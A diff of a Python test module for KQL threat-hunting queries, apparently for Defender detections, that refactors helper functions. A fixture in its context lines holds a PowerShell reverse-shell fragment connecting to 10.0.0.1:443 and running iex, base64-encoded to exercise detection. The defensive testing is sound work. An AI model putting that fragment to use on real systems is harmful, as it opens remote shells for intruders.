@@ -14,18 +14,15 @@ import ipaddress
 import shutil
 from datetime import UTC, datetime, timedelta
 from functools import cache
-from pathlib import Path
 from typing import Any
 
 import pytest
 
-from shared.hunt import Hunt
 from shared.kql_check import analyse
 from shared.sources.base import QueryError
 from shared.sources.local import LocalSource
-from shared.window import Window
+from tests.kql_cases import diagnostics, run_case
 
-NOW = datetime(2026, 11, 2, 12, 0, tzinfo=UTC)
 SHELL_TEXT = "$c=New-Object Net.Sockets.TcpClient(\"10.0.0.1\",443);iex $d"
 UTF16 = base64.b64encode(SHELL_TEXT.encode("utf-16-le")).decode()
 UTF8 = base64.b64encode(SHELL_TEXT.encode("utf-8")).decode()
@@ -371,17 +368,12 @@ def engine() -> LocalSource:
 
 
 def run_local(engine: LocalSource, query: str) -> list[dict[str, Any]]:
-    hunt = Hunt(id="00000000-0000-4000-8000-000000000001", name="semantics", query=query,
-                source="defender", path=Path("semantics.yaml"))
-    rows: list[dict[str, Any]] = engine.run(hunt, Window(NOW - timedelta(hours=4), NOW)).rows
-    return rows
+    return run_case(engine, query, hunt_id="00000000-0000-4000-8000-000000000001", name="semantics")
 
 
 @cache
 def parser_diagnostics() -> dict[str, list[str]]:
-    checked = analyse({name: query for name, (query, _) in CASES.items()}, "defender")
-    return {name: [f"{d.code}: {d.message}" for d in result.diagnostics]
-            for name, result in checked.items()}
+    return diagnostics(CASES)
 
 
 @pytest.mark.parametrize("name", sorted(CASES))
